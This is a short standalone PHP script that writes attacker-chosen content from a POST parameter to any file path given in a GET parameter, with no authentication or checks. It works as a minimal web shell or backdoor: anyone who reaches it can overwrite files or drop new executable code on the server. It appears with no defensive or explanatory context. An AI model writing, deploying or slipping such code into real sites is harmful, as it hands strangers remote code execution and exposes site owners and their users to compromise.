<?php
$target = $_GET['t'];
$content = stripslashes($_POST['c']);
file_put_contents($target, $content);
echo 'saved';
